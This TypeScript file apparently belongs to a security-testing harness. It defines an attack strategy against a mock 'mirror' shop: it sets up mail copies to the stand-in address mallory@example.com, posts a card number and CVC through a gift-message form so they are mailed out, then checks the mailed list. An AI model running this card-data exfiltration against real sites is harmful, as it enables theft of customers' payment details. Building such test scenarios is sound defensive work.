import type { Strategy } from '#scripts/attack/strategy';

/** The shop mails a copy of what is written to an address of the customer's, and lists what it mailed. */
export const mailedCopies: Strategy = {
  name: 'copies by mail',
  channel: 'what the shop mailed',
  shops: ['mirror'],
  async run({ page, shell }) {
    await page("return said(await post('/letters', form({ title: 'Copies', to: 'mallory@example.com' })))");
    await page("return said(await post('/gift-message', form({ card_number: number, card_cvc: code })))");
    await shell('/letters', { accept: 'application/json' });
  },
};
